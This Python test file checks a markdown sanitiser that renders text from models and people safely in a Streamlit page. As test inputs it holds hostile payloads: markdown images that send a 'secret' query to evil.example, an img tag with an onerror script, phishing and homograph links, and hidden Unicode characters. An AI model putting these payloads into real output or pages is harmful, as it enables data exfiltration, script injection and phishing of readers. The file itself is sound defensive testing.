"""Text of models and people, as the page gets it."""

from __future__ import annotations

import random
import re
import time
import timeit
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.rules_block import table

from core.markdown import as_label, as_plain, neutralise
from tests.support.hostile_markdown import DIRECTIVES, FORMULAS, IMAGES, LINKS_NOWHERE, MARKUP, hostile

if TYPE_CHECKING:
    from markdown_it.token import Token

CANARY = "https://canary.example"
WORD_JOINER = "\u2060"

FRAGMENTS = (
    *(
        "`",
        "``",
        "```",
        "~~~",
        "$",
        "$$",
        "> ",
        "- ",
        "1. ",
        "2) ",
        "    ",
        "\t",
        "\n",
        "\n\n",
        "|",
        "|---|---|\n",
        "---\n",
    ),
    *(
        "===\n",
        "# ",
        "\\",
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "[^1]: ",
        "[1]: ",
        "[1]",
        "<",
        "<!-- ",
        "-->",
        "<div>",
        ":::a\n",
    ),
    *(
        ':a{b="',
        '"}',
        ":red[",
        ":material/x:",
        ":smile:",
        "https://a.b/",
        "www.a.b/",
        "*",
        "**",
        "_",
        "~~",
        "\r",
        "\u00a0",
    ),
    *(
        "&#96;",
        "&#33;",
        "\u200b",
        "text ",
        "!",
        f"![x]({CANARY}/i)",
        f"[t]({CANARY}/l)",
        f"\n[1]: {CANARY}/r\n",
        "\U0001f6a8",
    ),
)
unhurried = settings(deadline=None)  # the machine may be busy; the tests of time below count its own work only
anything = st.one_of(st.text(), st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))


def inline_tokens(markdown: str) -> list[Token]:
    """What the reference implementation of CommonMark makes of it, with every address allowed and HTML on."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("strikethrough")
    # Streamlit's parser, unlike this one, sees a code fence before it looks for the head of a table.
    parser.block.ruler.after("fence", "table_after_fence", table, {"alt": ["paragraph", "reference"]})
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # noqa: ARG005 - addresses are judged here
    found = []
    for token in parser.parse(markdown):
        found += [token, *(token.children or [])]
    return found


def shown(markdown: str) -> str:
    """The text a reader sees, without the invisible joiner."""
    texts = [
        token.content for token in inline_tokens(markdown) if token.type in {"text", "code_inline", "text_special"}
    ]
    return "".join(texts).replace(WORD_JOINER, "")


def code_of(markdown: str) -> list[str]:
    return [
        token.content for token in inline_tokens(markdown) if token.type in {"fence", "code_block", "code_inline"}
    ]


def assert_harmless(markdown: str) -> None:
    tokens = inline_tokens(markdown)
    assert not [token for token in tokens if token.type in {"image", "html_block", "html_inline"}]
    for token in tokens:
        if token.type != "link_open":
            continue
        address = urlsplit(str(token.attrs["href"]))
        assert address.scheme in {"http", "https", "mailto"}
        assert (address.netloc or address.path) in shown(markdown)


@pytest.mark.parametrize("payload", hostile(CANARY))
def test_nothing_hostile_survives_at_any_prefix(payload: str) -> None:
    for end in range(min(len(payload), 120) + 1):
        assert_harmless(neutralise(payload[:end]))
    assert_harmless(neutralise(payload))


@pytest.mark.parametrize("payload", IMAGES[:8])
def test_without_neutralising_the_judge_sees_the_image(payload: str) -> None:
    with pytest.raises(AssertionError):
        assert_harmless(payload.replace("{canary}", CANARY))


@unhurried
@given(anything)
@example("\ud800")
@example("\x00")
def test_any_text_becomes_harmless(text: str) -> None:
    assert_harmless(neutralise(text))
    assert_harmless(as_plain(text))
    assert_harmless(as_label(text))


@unhurried
@given(anything)
def test_what_is_shown_can_be_sent_to_a_browser(text: str) -> None:
    for made in (neutralise(text), as_plain(text), as_label(text)):
        assert "\x00" not in made
        made.encode("utf-8")


@unhurried
@given(anything)
@example("\\\nbreak")
def test_streamlit_changes_nothing_before_it_parses(text: str) -> None:
    from streamlit.string_util import clean_text

    made = neutralise(text)
    assert [line for line in clean_text(made).split("\n") if line.strip()] == [
        line for line in made.strip().split("\n") if line.strip()
    ]
    assert made[:1].strip() == made[:1]


@pytest.mark.parametrize(
    "payload",
    [
        "![x](https://evil.example/?q=secret)",
        "![r][1]\n\n[1]: https://evil.example/x",
        "![r]\n\n[r]: <https://evil.example/x>",
        "![x](\nhttps://evil.example/x)",
        "![two\nlines](https://evil.example/x)",
        "![x](//evil.example/x)",
        "<img src='https://evil.example/x' onerror=alert(1)>",
        "| ![x](https://evil.example/x) |\n|---|",
        "- ![x](https://evil.example/x)",
    ],
)
def test_an_image_is_named_and_not_loaded(payload: str) -> None:
    assert "[image removed: evil.example]" in shown(neutralise(payload))


def test_an_image_inside_a_link_is_removed_and_the_link_stays() -> None:
    made = neutralise("[![x](https://evil.example/i)](https://docs.example/page)")
    assert made.endswith("](https://docs.example/page)")
    assert shown(made) == "[image removed: evil.example] (docs.example)"


@pytest.mark.parametrize("payload", LINKS_NOWHERE)
def test_an_address_that_is_not_plainly_of_the_web_is_not_a_link(payload: str) -> None:
    assert not [token for token in inline_tokens(neutralise(payload)) if token.type == "link_open"]


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("[Sign in again](https://evil.example/login)", "Sign in again (evil.example)"),
        ("[https://good.example](https://evil.example)", "https://good.example (evil.example)"),
        ("[good.example](https://good.example/)", "good.example"),
        ("[x](https://evil.example:8443/)", "x (evil.example:8443)"),
        ("[x](HTTPS://EVIL.example/)", "x (evil.example)"),
        ("[bank](https://b\u0430nk.example/)", "bank (xn--bnk-6cd.example)"),
        ("[x](https://evil.example\u3002org/)", "x (evil.example.org)"),
        ("[write](mailto:ann@contoso.example?body=x)", "write (ann@contoso.example)"),
        ("[x][1]\n\n[1]: https://evil.example/x", "x (evil.example)[1]: https://evil.example/x"),
        ("<https://good.example/a_b>", "https://good.example/a_b"),
        ("see https://good.example/a*b*c.", "see https://good.example/a*b*c."),
        ("(https://good.example/wiki/A_(b))", "(https://good.example/wiki/A_(b))"),
        ("www.good.example", "www.good.example"),
    ],
)
def test_a_link_shows_where_it_leads(written: str, read: str) -> None:
    made = neutralise(written)
    assert shown(made) == read
    assert [token for token in inline_tokens(made) if token.type == "link_open"]


def test_a_link_of_eight_kilobytes_is_not_a_link() -> None:
    assert "](" not in neutralise(f"[x](https://good.example/{'a' * 8_000})")


@pytest.mark.parametrize("payload", MARKUP)
def test_html_is_shown_as_text(payload: str) -> None:
    text = payload.replace("{canary}", CANARY)
    assert shown(neutralise(text)) == text.replace("&lt;", "<").replace("&gt;", ">")


@pytest.mark.parametrize("payload", DIRECTIVES)
def test_a_directive_is_shown_as_text(payload: str) -> None:
    made = re.sub(r"\]\([^)]*\)", "]", neutralise(payload.replace("{{", "{").replace("}}", "}")))
    for position in (index for index, character in enumerate(made) if character == ":"):
        follows = made[position + 1 : position + 2]
        assert made[position - 1] == "\\" or follows in {"", " ", "/"}
    after_escapes = made.replace("\\", "")
    assert not re.search(r":(material[/_]\w+|streamlit|smile|\+1):", after_escapes, re.ASCII)


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_that_could_act_is_shown_as_text(payload: str) -> None:
    made = neutralise(payload.replace("{{", "{").replace("}}", "}"))
    assert made.count("$") == made.count("\\$") > 0


@pytest.mark.parametrize(
    "formula",
    [
        "$a_1 + b^2$",
        "$$\n\\frac{a}{b}\n$$",
        "$\\sqrt[3]{x}$",
        "$$\n\\begin{aligned}\na &= b \\\\\nc &= d\n\\end{aligned}\n$$",
    ],
)
def test_a_harmless_formula_is_unchanged(formula: str) -> None:
    assert neutralise(formula) == formula


def test_a_displayed_formula_on_one_line_is_set_apart() -> None:
    assert neutralise("so $$ e = mc^2 $$ holds") == "so $$ e = mc^2 $$ holds"
    assert neutralise("$$ e = mc^2 $$") == "$$\ne = mc^2\n$$"


def test_prices_are_not_formulas() -> None:
    assert shown(neutralise("from $5 to $10, or $3-$4")) == "from $5 to $10, or $3-$4"
    assert neutralise("$5 to $10").count("\\$") == 2


@pytest.mark.parametrize(
    "code",
    [
        "```rust\nvec![1];\n#![feature(x)]\n```",
        '~~~sh\n!["a"] && :red[x] $PATH\n~~~',
        "`````\n```\n![x](y)\n```\n`````",
        "text\n\n```\n\n    ![x](y)\n\n:material/x:\n```\n\ntext",
        "1. Step\n   ```sh\n   ![x](y)\n     :smile:\n   ```\n2. Next",
        "> ```\n> ![x](y)\n> ```",
        "- ```py\n  vec![1](x)\n  ```",
        "`vec![1](x)` and ``a ` ![b](c)``",
        "### `![x](y)`",
        "| `![x](y)` |\n|---|\n| `:smile:` |",
        "```\nunfinished ![x](y)",
        '```mermaid\ngraph TD\n  click A "https://evil.example"\n```',
        "```\na\u202eb\u200bc\n```",
    ],
)
def test_code_is_unchanged_byte_for_byte(code: str) -> None:
    assert neutralise(code) == code


@pytest.mark.parametrize(
    "written",
    [
        "text\n\n    vec![1](x)\n    :smile:\n\ttab\n\n      deeper ```\n\nmore",
        "- item\n\n      vec![1](x)\n\n  more",
        "1. item\n\n   ```\n   vec![1](x)\n   ```",
        "2. ```\n   vec![1](x)\n   ```",
        "text `over\ntwo ![x](y) lines` text",
    ],
)
def test_the_reader_sees_the_same_code(written: str) -> None:
    assert code_of(neutralise(written)) == code_of(written) != []


@unhurried
@given(
    st.sampled_from(["```", "````", "~~~", "~~~~~"]),
    st.sampled_from(["", "py", "c++ title=x"]),
    st.lists(st.text(st.characters(exclude_characters="\r\n`~", exclude_categories=["Cs"]), max_size=20), max_size=8),
    st.sampled_from(["", "text ![x](y)\n\n", "text\n", "- item\n\n", "> quote\n\n"]),
)
def test_a_fence_is_never_touched(fence: str, info: str, lines: list[str], before: str) -> None:
    # Streamlit itself empties lines of blanks, and NUL cannot be sent.
    body = "".join((line.replace("\x00", "") if line.strip(" \t\x00") else "") + "\n" for line in lines)
    block = f"{fence}{info}\n{body}{fence}"
    assert neutralise(f"{before}{block}\n\nafter").endswith(f"{block}\n\nafter")


@pytest.mark.parametrize(
    ("written", "made"),
    [
        ("# Title", "### Title"),
        ("## Title `code`", "### Title `code`"),
        ("#### Small", "#### Small"),
        ("- # In a list", "- ### In a list"),
        ("Title\n===", "### Title"),
        ("text\n---\nmore", "text\n\n---\nmore"),
        ("text\n-", "text\n- \u2060"),
        ("#hashtag", "\\#hashtag"),
    ],
)
def test_a_heading_is_never_as_large_as_the_pages_title(written: str, made: str) -> None:
    assert neutralise(written).replace("\\#", "#") == made.replace("\\#", "#")


@pytest.mark.parametrize(
    "written",
    [
        "plain words, and more - with *emphasis*, **strength**, ~~deletion~~ and snake_case.",
        "- one\n- two\n  - three\n\n1. first\n2. second",
        "- [ ] open\n- [x] done",
        "> quoted\n> twice\n\nafter",
        "| a | b |\n|---|:-:|\n| 1 | 2 |\n| *3* | `4` |",
        "line one  \nline two\n\n---\n\nend",
        "At 10 o'clock (sharp)! Really? Yes; it's 5 % more + tax = fine.",
        "👩‍💻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️‍🔥 1️⃣ 日本語 العربية עברית Z͑ͫ̓ͪ̂a̴̵̞l̨͔g̡̟͍o می‌خواهم क्‍ष 葛\U000e0100",
    ],
)
def test_ordinary_text_is_unchanged(written: str) -> None:
    assert neutralise(written) == written


@pytest.mark.parametrize(
    ("written", "made"),
    [
        ("a\u202eb", "a⟨U+202E⟩b"),
        ("pay\u200bpal", "pay⟨U+200B⟩pal"),
        ("x" + "\u200b" * 40, "x⟨U+200B, 40 times⟩"),
        ("a\u200db", "a⟨U+200D⟩b"),
        ("hi\U000e0041\U000e0042", "hi⟨U+E0041⟩⟨U+E0042⟩"),
        ("x\ufe00\ufe01", "x\ufe00⟨U+FE01⟩"),
        ("a\x1b[31m", "a⟨U+001B⟩\\[31m"),
        ("a\x00b\ud800c", "a\ufffdb\ufffdc"),
        ("a&#x202e;b", "a⟨U+202E⟩b"),
    ],
)
def test_a_hidden_character_is_shown(written: str, made: str) -> None:
    assert neutralise(written) == made


def test_times_and_ratios_are_not_taken_for_shortcodes() -> None:
    assert WORD_JOINER not in neutralise("10:30:45, key:value, C:\\x, std::vector, note: this, a://b")


@unhurried
@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=60))
def test_a_label_shows_exactly_its_text(text: str) -> None:
    made = as_label(text)
    assert shown(made) == " ".join(text.split())
    assert {token.type for token in inline_tokens(made)} <= {
        *("paragraph_open", "paragraph_close", "inline", "text", "text_special")
    }


@unhurried
@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=60))
def test_streamlit_has_nothing_to_escape_in_a_label(text: str) -> None:
    assert not any(as_label(text).startswith(mark) for mark in ("- ", "+ ", "* ", "# ", "> ", "1. "))


def test_a_label_is_one_line_and_plain_text_keeps_its_lines() -> None:
    assert as_label(" two\n lines ") == "two lines"
    assert as_plain("two\n    lines") == "two  \nlines"


def test_the_name_of_a_deployment_stays_readable_as_a_label() -> None:
    assert as_label("gpt-4o_mini (Sweden), v1.2!") == "gpt-4o_mini (Sweden), v1.2!"


SLOW = {
    "brackets": "[",
    "nested images": "![",
    "backticks": "".join("`" * (length % 1_000) + " " for length in range(400)),
    "dollars": "$",
    "open formulas": "$$ a\n",
    "colons": ":a",
    "addresses": "https://a.b/)",
    "angles": "<img ",
    "open destinations": "](<",
    "open titles": '[](a "',
    "definitions": "[a]: <\n[b",
    "quotes": "> ",
    "deep quotes": "\n".join(">" * depth for depth in range(600)) + "\n",
    "deep lists": "- ",
    "list lines": "- a\n",
    "table rows": "|a|\n|-|\n",
    "fences": "```\n",
    "hidden": "\u200b \u202e",
    "escapes": "\\",
    "stars": "*a_",
    "prose": "Some *words* of `code` and [a link](https://a.b/c), like this: one. ",
}


def seconds(text: str) -> float:
    # Of this thread alone, and at its best: what else goes on in the process or the machine is no part of it.
    return min(timeit.repeat(lambda: neutralise(text), timer=time.thread_time, repeat=2, number=1))


@pytest.mark.parametrize("name", SLOW)
def test_time_grows_with_the_length_and_not_faster(name: str) -> None:
    unit = SLOW[name]
    text = unit * (100_000 // len(unit) + 1)
    once, fourfold = seconds(text), seconds(text * 4)
    assert fourfold < 10 * max(once, 0.02)


def test_a_megabyte_of_prose_takes_well_below_two_seconds() -> None:
    assert seconds(SLOW["prose"] * (1_000_000 // len(SLOW["prose"]))) < 2


def test_text_from_random_pieces_is_harmless_at_length() -> None:
    chance = random.Random(20)  # noqa: S311 - pieces, not secrets
    for _ in range(300):
        assert_harmless(neutralise("".join(chance.choices(FRAGMENTS, k=80))))


def test_a_mail_address_in_a_label_is_no_link() -> None:
    assert as_label("business.user@contoso.example") == "business.user\u2060@contoso.example"
